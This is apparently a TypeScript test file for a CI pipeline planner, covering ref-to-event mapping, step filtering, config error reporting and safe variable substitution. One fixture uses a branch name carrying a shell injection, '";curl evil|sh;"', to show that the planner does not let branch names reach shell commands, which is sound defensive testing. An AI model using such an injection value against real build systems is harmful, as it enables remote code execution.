import assert from 'node:assert/strict';
import { test } from 'node:test';
import { headFacts, jobSteps, planRun, type RunForJob } from './run-plan.ts';

const limits = { maxArtifactBytes: 1024 ** 2 };
const push = { event: 'push', branch: 'main', pullRequest: null } as const;

test('branches are pushes, pull request heads are pull requests, the rest is nothing', () => {
  assert.deepEqual(headFacts('refs/heads/a/b', 'main'), {
    event: 'push',
    branch: 'a/b',
    pullRequest: null,
  });
  assert.deepEqual(headFacts('refs/pull/12/head', 'trunk'), {
    event: 'pull_request',
    branch: 'trunk',
    pullRequest: 12,
  });
  for (const ref of ['refs/pull/12/merge', 'refs/tags/v1', 'refs/pull/0/head', 'HEAD']) {
    assert.equal(headFacts(ref, 'main'), null);
  }
});

test('steps that are for another event are left out of the plan', () => {
  const pipeline = `steps:
  - { name: test, image: a, commands: [t] }
  - { name: publish, image: a, commands: [p], when: { event: push, branch: main } }
`;
  const names = (planned: ReturnType<typeof planRun>): string[] =>
    planned.kind === 'run' ? planned.plan.steps.map((step) => step.name) : [planned.kind];
  assert.deepEqual(names(planRun({ pipeline, release: null }, push, limits)), ['test', 'publish']);
  const topic = { ...push, branch: 'topic' };
  assert.deepEqual(names(planRun({ pipeline, release: null }, topic, limits)), ['test']);
});

test('no pipeline file, or none for this event, starts no run', () => {
  assert.equal(planRun({ pipeline: null, release: null }, push, limits).kind, 'nothing');
  const tagsOnly = 'when: { event: tag }\nsteps:\n  - { name: a, image: b, commands: [c] }\n';
  assert.equal(planRun({ pipeline: tagsOnly, release: null }, push, limits).kind, 'nothing');
});

test('a fault in either file is told with file, line and column', () => {
  const pipeline = 'steps:\n  - { name: a, image: b, commands: [c] }\n';
  const bad = planRun({ pipeline: 'steps: 1\n', release: null }, push, limits);
  assert.match(
    bad.kind === 'refused' ? bad.reason : '',
    /^\.woodpecker\.yaml:1:8: steps: expected/,
  );
  const badRelease = planRun({ pipeline, release: 'version: 1\nx: 1\n' }, push, limits);
  assert.match(
    badRelease.kind === 'refused' ? badRelease.reason : '',
    /^\.airlock\/release\.yaml:2:1: x: unknown key/,
  );
});

const run: RunForJob = {
  id: 'run_0000000000',
  number: 7,
  repository: 'shop/web',
  repositoryUrl: 'https://git.example/shop/web.git',
  ref: 'refs/heads/x";curl evil|sh;"',
  branch: 'x";curl evil|sh;"',
  commit: '0123456789abcdef0123456789abcdef01234567',
  event: 'push',
  pullRequest: null,
  subject: 'a\nsteps: []',
  authorName: 'dana',
  plan: {
    steps: [
      {
        name: 'build',
        image: 'app:${CI_COMMIT_SHA:0:8}',
        commands: [
          'echo ${CI_COMMIT_SHA:0:8} ${CI_COMMIT_BRANCH} $$HOME',
          'echo ${CI_COMMIT_BRANCH:0:4}',
        ],
        environment: { TAG: 'v-${CI_PIPELINE_NUMBER}', OTHER: '${UNKNOWN}' },
      },
    ],
    artifact: null,
    release: null,
  },
};

test('a branch name cannot write shell: only harmless slices are pasted into commands', () => {
  const [step] = jobSteps(run);
  assert.equal(step?.commands[0], 'echo 01234567 ${CI_COMMIT_BRANCH} $HOME');
  assert.equal(step.commands[1], 'echo ${CI_COMMIT_BRANCH:0:4}');
  assert.equal(step.environment['CI_COMMIT_BRANCH'], run.branch);
  assert.equal(step.image, 'app:01234567');
  assert.equal(step.environment['TAG'], 'v-7');
  assert.equal(step.environment['OTHER'], '${UNKNOWN}');
});
